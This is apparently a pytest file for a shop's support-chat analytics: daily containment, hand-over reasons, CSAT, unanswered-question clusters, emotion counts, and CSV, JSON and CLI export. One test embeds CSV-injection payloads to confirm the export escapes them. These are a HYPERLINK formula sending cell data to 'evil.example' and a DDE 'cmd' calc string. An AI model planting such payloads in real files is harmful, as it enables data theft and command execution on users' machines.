"""The shop owner's support analytics over stored conversations (SQLite): containment per day,
hand-overs by reason, CSAT, response times, unanswered questions clustered, emotion mix, CSV."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import date, datetime, timedelta
from pathlib import Path

import pytest
from sqlalchemy.orm import Session, sessionmaker
from typer.testing import CliRunner

from insight.cli import app
from insight.db.engine import make_engine, make_sessionmaker
from insight.db.migrate import upgrade
from insight.db.models import Conversation, ConversationMessage, ConversationOwner, CsatResponse
from insight.report.support import load_support_stats, stats_csv, stats_json, unsure_replies

DAY = datetime(2026, 11, 16, 9, 0)  # a Monday
REPHRASE = "Sorry, I didn't quite get that. Could you say it another way?"
NOT_SURE = "I'm not sure I have a good answer to that, and I'd rather not guess."


@pytest.fixture
def sessions(tmp_path: Path) -> Iterator[sessionmaker[Session]]:
    engine = make_engine(f"sqlite:///{tmp_path / 'shop.db'}")
    upgrade(engine)
    yield make_sessionmaker(engine)
    engine.dispose()


def _conversation(
    session: Session,
    cid: str,
    start: datetime,
    lines: list[tuple[str, str, int, str | None]],
    escalated: tuple[str, str] | None = None,
) -> None:
    session.add(
        Conversation(
            id=cid,
            owner=ConversationOwner.QUEUED if escalated else ConversationOwner.BOT,
            priority=0.5,
            escalation_source=escalated[0] if escalated else None,
            escalation_reason=escalated[1] if escalated else None,
            queued_at=start if escalated else None,
            created_at=start,
            updated_at=start,
        )
    )
    for sender, text, seconds, emotion in lines:
        session.add(
            ConversationMessage(
                conversation_id=cid,
                sender=sender,
                text=text,
                emotion=emotion,
                emotion_confidence=0.9 if emotion else None,
                created_at=start + timedelta(seconds=seconds),
            )
        )


@pytest.fixture
def shop(sessions: sessionmaker[Session]) -> sessionmaker[Session]:
    with sessions.begin() as session:
        _conversation(
            session,
            "a",
            DAY,
            [
                ("shopper", "where is my order", 0, "neutral"),
                ("bot", "It is on its way.", 2, None),
                ("shopper", "thanks!", 60, "gratitude"),
            ],
        )
        _conversation(
            session,
            "b",
            DAY + timedelta(hours=2),
            [
                ("shopper", "can I pay with bitcoin", 0, "neutral"),
                ("bot", NOT_SURE, 4, None),
                ("shopper", "do you take bitcoin payments", 30, "neutral"),
                ("bot", REPHRASE, 34, None),
                ("shopper", "I want a person", 40, "frustration"),
            ],
            escalated=("assistant", "shopper_asked"),
        )
        _conversation(
            session,
            "c",
            DAY + timedelta(days=1),
            [
                ("shopper", "is there a store in Hamburg", 0, "neutral"),
                ("bot", REPHRASE, 6, None),
                ("shopper", "this is useless", 20, "anger"),
            ],
            escalated=("emotion", "the shopper sounds upset (very angry)"),
        )
        _conversation(session, "outside", DAY + timedelta(days=9), [("shopper", "hi", 0, None)])
        session.add_all(
            [
                CsatResponse(conversation_id="a", score=5, created_at=DAY),
                CsatResponse(conversation_id="b", score=2, created_at=DAY + timedelta(days=1)),
                CsatResponse(conversation_id="c", score=4, created_at=DAY + timedelta(days=7)),
            ]
        )
    return sessions


def test_the_figures_cover_the_period_and_say_where_people_stepped_in(
    shop: sessionmaker[Session],
) -> None:
    stats = load_support_stats(shop, date(2026, 11, 16), date(2026, 11, 24))

    assert stats.conversations == 3  # "outside" started after the period
    assert [(d.day.day, d.conversations, d.handed_over) for d in stats.days[:3]] == [
        (16, 2, 1),
        (17, 1, 1),
        (18, 0, 0),
    ]
    assert len(stats.days) == 8
    assert stats.containment == pytest.approx(1 / 3)
    assert stats.handovers == {"shopper asked": 1, "upset (emotion signal)": 1}
    assert stats.csat == {2: 1, 4: 1, 5: 1}
    assert stats.csat_weekly == {date(2026, 11, 16): 3.5, date(2026, 11, 23): 4.0}
    assert stats.first_response_s == 4.0  # 2, 4 and 6 seconds
    assert stats.duration_s == 40.0  # 60, 40 and 20 seconds
    assert stats.emotions == {"neutral": 4, "gratitude": 1, "frustration": 1, "anger": 1}


def test_unanswered_questions_are_clustered_by_wording_biggest_first(
    shop: sessionmaker[Session],
) -> None:
    stats = load_support_stats(shop, date(2026, 11, 16), date(2026, 11, 24))

    assert [(g.size, sorted(g.questions)) for g in stats.gaps] == [
        (2, ["can I pay with bitcoin", "do you take bitcoin payments"]),
        (1, ["is there a store in Hamburg"]),
    ]
    assert REPHRASE in unsure_replies() and NOT_SURE in unsure_replies()


def test_the_tables_export_as_csv_and_the_page_data_as_json(shop: sessionmaker[Session]) -> None:
    stats = load_support_stats(shop, date(2026, 11, 16), date(2026, 11, 18))

    days = list(csv.reader(io.StringIO(stats_csv(stats, "days"))))
    handovers = list(csv.reader(io.StringIO(stats_csv(stats, "handovers"))))
    page = stats_json(stats)

    assert days == [
        ["day", "conversations", "handed_over", "containment"],
        ["2026-11-16", "2", "1", "0.5"],
        ["2026-11-17", "1", "1", "0.0"],
    ]
    assert handovers[0] == ["reason", "conversations"] and len(handovers) == 3
    assert page["containment"] == 0.333 and page["csat"] == {"2": 1, "5": 1}
    with pytest.raises(ValueError, match="unknown table"):
        stats_csv(stats, "passwords")


def test_shopper_text_in_the_csv_never_runs_as_a_spreadsheet_formula(
    sessions: sessionmaker[Session],
) -> None:
    """A shopper types a formula the assistant cannot answer; the shop owner opens the gaps table
    in a spreadsheet, which would run it (send data away, or open a link) without the quote."""
    attack = '=HYPERLINK("https://evil.example/?"&A1,"refund")'
    with sessions.begin() as session:
        _conversation(
            session,
            "x",
            DAY,
            [("shopper", attack, 0, None), ("bot", REPHRASE, 2, None)],
            escalated=("assistant", "@SUM(1+1)*cmd|' /C calc'!A0"),
        )
    stats = load_support_stats(sessions, date(2026, 11, 16), date(2026, 11, 17))

    gaps = list(csv.reader(io.StringIO(stats_csv(stats, "gaps"))))
    handovers = list(csv.reader(io.StringIO(stats_csv(stats, "handovers"))))

    assert gaps[1][1:] == ["'" + attack, "'" + attack]
    assert handovers[1][0] == "'@SUM(1+1)*cmd|' /C calc'!A0"


def test_the_cli_prints_the_headline_and_writes_every_table(
    shop: sessionmaker[Session], tmp_path: Path
) -> None:
    url = str(shop.kw["bind"].url)
    out = tmp_path / "tables"

    result = CliRunner().invoke(
        app,
        [
            "support-report",
            "--database-url",
            url,
            "--since",
            "2026-11-16",
            "--until",
            "2026-11-24",
            "--csv-dir",
            str(out),
        ],
    )

    printed = " ".join(result.output.split())  # the console wraps long lines
    assert result.exit_code == 0, result.output
    assert "3 conversations, 33% resolved by the assistant, CSAT 3.67" in printed
    assert "unanswered (2): " in printed
    assert sorted(p.name for p in out.iterdir()) == [
        "csat.csv",
        "days.csv",
        "emotions.csv",
        "gaps.csv",
        "handovers.csv",
        "report.html",
    ]
    page = (out / "report.html").read_text()
    assert page.count('<img class="plot"') == 2  # containment + hand-overs, CSAT + emotion
    assert "3 conversations, 33% resolved by the assistant, CSAT 3.67" in page
